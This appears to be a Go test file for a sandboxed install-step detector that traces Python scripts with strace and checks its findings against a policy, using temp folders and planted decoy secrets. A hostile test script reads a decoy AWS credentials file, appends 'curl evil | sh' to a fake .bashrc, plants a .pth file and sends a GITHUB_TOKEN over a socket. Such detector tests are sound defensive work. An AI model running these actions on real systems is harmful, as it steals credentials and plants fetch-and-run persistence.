package tracereport

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/pydepot/pydepot/internal/checkreport"
	"github.com/pydepot/pydepot/internal/strace"
	"github.com/pydepot/pydepot/internal/testdist"
)

// layout is a step's world made of t.TempDir() folders: a fake HOME with the decoys
// planted, an install prefix, a scratch folder, a work folder, and one "outside" that
// the policy does not allow. The real HOME is never touched.
type layout struct {
	root, home, prefix, tmp, work, outside string
	env                                    []string
	py                                     string
}

func newLayout(t *testing.T) *layout {
	t.Helper()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	l := &layout{root: root, home: filepath.Join(root, "home"), prefix: filepath.Join(root, "prefix"),
		tmp: filepath.Join(root, "tmp"), work: filepath.Join(root, "work"), outside: filepath.Join(root, "outside")}
	for _, d := range []string{l.home, l.prefix, l.tmp, l.work, l.outside, filepath.Join(l.prefix, "site-packages")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files, env := DefaultDecoys(l.home)
	for p, body := range files {
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	l.env = []string{"PATH=/usr/bin:/bin", "HOME=" + l.home, "TMPDIR=" + l.tmp, "LC_ALL=C.UTF-8"}
	for k, v := range env {
		l.env = append(l.env, k+"="+v)
	}
	l.py = testdist.Python(t, "3.11")
	return l
}

func (l *layout) policy() Policy {
	decoys, secrets := DecoyPolicy(l.home)
	return Policy{
		Allowed: []string{l.prefix, l.work},
		Temp:    []string{l.tmp},
		Prefix:  l.prefix,
		Home:    l.home,
		Dir:     l.work,
		Exec:    []string{l.py},
		Decoys:  decoys,
		Secrets: secrets,
	}
}

// trace runs script with python3 -I -B (no bytecode written) under strace.Command in the
// work folder and returns the findings of its trace.
func (l *layout) trace(t *testing.T, script string) []checkreport.Finding {
	t.Helper()
	st := testdist.NeedCommand(t, "strace", "strace")
	sc := filepath.Join(l.work, "script.py")
	if err := os.WriteFile(sc, []byte(script), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(l.root, "trace.txt")
	cmd := exec.Command(st, append(strace.Command(out)[1:], l.py, "-I", "-B", sc)...)
	cmd.Dir, cmd.Env = l.work, l.env
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("strace: %v\n%s", err, b)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	fs, err := FromTrace(context.Background(), checkreport.StepInstall, l.policy(), f)
	if err != nil {
		t.Fatal(err)
	}
	return fs
}

func show(fs []checkreport.Finding) string {
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "  %s %s %s\n", f.Severity, f.Kind, f.Detail)
	}
	return b.String()
}

// want asserts one finding of the kind and severity whose detail holds every part.
func want(t *testing.T, fs []checkreport.Finding, kind checkreport.Kind, sev checkreport.Severity, parts ...string) {
	t.Helper()
next:
	for _, f := range fs {
		if f.Kind != kind || f.Severity != sev || f.Task != checkreport.StepInstall {
			continue
		}
		for _, p := range parts {
			if !strings.Contains(f.Detail, p) {
				continue next
			}
		}
		return
	}
	t.Errorf("no %s %s finding with %q in\n%s", sev, kind, parts, show(fs))
}

func TestHostileScript(t *testing.T) {
	l := newLayout(t)
	if err := os.Symlink(filepath.Join(l.outside, "via-link"), filepath.Join(l.work, "link")); err != nil {
		t.Fatal(err)
	}
	script := fmt.Sprintf(`
import os, socket, subprocess
home, outside, prefix, tmp = %q, %q, %q, %q
secret = open(os.path.join(home, ".aws", "credentials")).read()
open(os.path.join(home, ".bashrc"), "a").write("curl evil | sh\n")
open(os.path.join(home, "notes.txt"), "w").write("x")
open(os.path.join(outside, "dropped.txt"), "w").write("x")
os.rename(os.path.join(outside, "dropped.txt"), os.path.join(outside, "moved.txt"))
os.unlink(os.path.join(outside, "moved.txt"))
open("link", "w").write("through a symlink")
open(os.path.join(prefix, "site-packages", "zzz-evil.pth"), "w").write("import os\n")
open(os.path.join(tmp, "left-behind.txt"), "w").write("x")
open(os.path.join(tmp, "cleaned.txt"), "w").write("x"); os.unlink(os.path.join(tmp, "cleaned.txt"))
open(os.path.join(tmp, "build-env.pth"), "w").write("x"); os.unlink(os.path.join(tmp, "build-env.pth"))
open("fine.txt", "w").write("x")
free = socket.socket(); free.bind(("127.0.0.1", 0)); port = free.getsockname()[1]; free.close()
s = socket.socket(); s.settimeout(2)
try: s.connect(("127.0.0.1", port))
except OSError: pass
s = socket.socket(); s.settimeout(0.2)
try: s.connect(("192.0.2.1", 80))
except OSError: pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"\x12\x34\x01\x00", ("127.0.0.1", 53))
u.sendto(os.environ["GITHUB_TOKEN"].encode(), ("127.0.0.1", port))
subprocess.run(["/bin/sh", "-c", "exit 0"])
`, l.home, l.outside, l.prefix, l.tmp)
	fs := l.trace(t, script)
	t.Logf("findings:\n%s", show(fs))
	want(t, fs, checkreport.ReadSecrets, checkreport.High, "read "+filepath.Join(l.home, ".aws", "credentials"))
	want(t, fs, checkreport.ReadSecrets, checkreport.High, "sent a planted secret", "ghp_pydepotD")
	want(t, fs, checkreport.WriteOutside, checkreport.High, filepath.Join(l.home, ".bashrc"), "in HOME")
	want(t, fs, checkreport.WriteOutside, checkreport.Medium, filepath.Join(l.home, "notes.txt"))
	want(t, fs, checkreport.WriteOutside, checkreport.Medium, "wrote "+filepath.Join(l.outside, "dropped.txt"))
	want(t, fs, checkreport.WriteOutside, checkreport.Medium, "wrote "+filepath.Join(l.outside, "moved.txt"))
	want(t, fs, checkreport.WriteOutside, checkreport.Medium, "deleted "+filepath.Join(l.outside, "moved.txt"))
	want(t, fs, checkreport.WriteOutside, checkreport.Medium, "wrote "+filepath.Join(l.outside, "via-link"))
	want(t, fs, checkreport.WriteOutside, checkreport.Info, "left "+filepath.Join(l.tmp, "left-behind.txt"))
	want(t, fs, checkreport.Pth, checkreport.Medium, "zzz-evil.pth")
	want(t, fs, checkreport.Network, checkreport.High, "connect to 192.0.2.1:80 over TCP")
	want(t, fs, checkreport.Network, checkreport.High, "DNS lookup: sent to 127.0.0.1:53")
	want(t, fs, checkreport.Exec, checkreport.High, "ran /bin/sh", "exit 0")
	for _, f := range fs {
		for _, ok := range []string{"cleaned.txt", "build-env.pth", "fine.txt", "127.0.0.1:" + "0", l.py} {
			if strings.Contains(f.Detail, ok) {
				t.Errorf("finding for an allowed action: %+v", f)
			}
		}
		if f.Kind == checkreport.Network && !strings.Contains(f.Detail, "192.0.2.1") && !strings.Contains(f.Detail, ":53") {
			t.Errorf("loopback reported as network: %+v", f)
		}
	}
	if !sort.SliceIsSorted(fs, func(i, j int) bool { return fs[i].Severity.Rank() > fs[j].Severity.Rank() }) {
		t.Errorf("not highest first:\n%s", show(fs))
	}
	if r := &(checkreport.Report{Findings: fs}); checkreport.Decide(r) != checkreport.Fail {
		t.Errorf("verdict %s", checkreport.Decide(r))
	}
}

// A script that stays in its lanes (reads the standard library, writes in its work and
// scratch folders, cleans up, talks to itself on loopback) has no findings.
func TestBenignScript(t *testing.T) {
	l := newLayout(t)
	script := fmt.Sprintf(`
import json, os, socket, tempfile, shutil
tmp = %q
d = tempfile.mkdtemp(dir=tmp)
open(os.path.join(d, "a.json"), "w").write(json.dumps({"a": 1}))
shutil.rmtree(d)
os.makedirs("build/lib", exist_ok=True)
open("build/lib/mod.py", "w").write("x = 1\n")
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
c = socket.create_connection(srv.getsockname(), timeout=2); c.sendall(b"hi")
`, l.tmp)
	if fs := l.trace(t, script); len(fs) != 0 {
		t.Errorf("findings for a benign script:\n%s", show(fs))
	}
}

func TestUnder(t *testing.T) {
	for _, c := range []struct {
		p, prefix string
		want      bool
	}{
		{"/tmp/x", "/tmp", true}, {"/tmp", "/tmp/", true}, {"/tmpx/y", "/tmp", false},
		{"/a/b", "/", true}, {"/home/u/.sshx", "/home/u/.ssh", false},
	} {
		if got := under(c.p, c.prefix); got != c.want {
			t.Errorf("under(%q, %q) = %v", c.p, c.prefix, got)
		}
	}
}

// Findings are one per kind and detail, and at most MaxFindings plus one that counts the
// rest, the highest kept.
func TestFindingsDedupedAndBounded(t *testing.T) {
	p := Policy{Allowed: []string{"/ok"}, Home: "/h"}
	events := func(yield func(*strace.Event) bool) {
		line := func(s string) *strace.Event {
			var ev *strace.Event
			if err := strace.Parse(strings.NewReader(s+"\n"), func(e *strace.Event) error { c := *e; ev = &c; return nil }); err != nil {
				t.Fatal(err)
			}
			return ev
		}
		for i := 0; i < 3; i++ {
			if !yield(line(`1 openat(AT_FDCWD</ok>, "/h/.ssh/id_rsa", O_RDONLY) = 3</h/.ssh/id_rsa>`)) {
				return
			}
		}
		for i := 0; i < 5*MaxFindings; i++ {
			if !yield(line(fmt.Sprintf(`1 openat(AT_FDCWD</ok>, "../out/f%d", O_WRONLY|O_CREAT, 0666) = 3</out/f%d>`, i, i))) {
				return
			}
		}
	}
	fs := Findings(checkreport.StepInstall, p, events)
	if len(fs) != MaxFindings+1 {
		t.Fatalf("%d findings", len(fs))
	}
	if fs[0].Kind != checkreport.ReadSecrets || fs[0].Severity != checkreport.High || fs[1].Kind != checkreport.WriteOutside {
		t.Errorf("first findings: %+v %+v", fs[0], fs[1])
	}
	if last := fs[len(fs)-1]; last.Severity != checkreport.Info || !strings.Contains(last.Detail, fmt.Sprint(5*MaxFindings-MaxFindings+1)) {
		t.Errorf("last finding: %+v", last)
	}
}
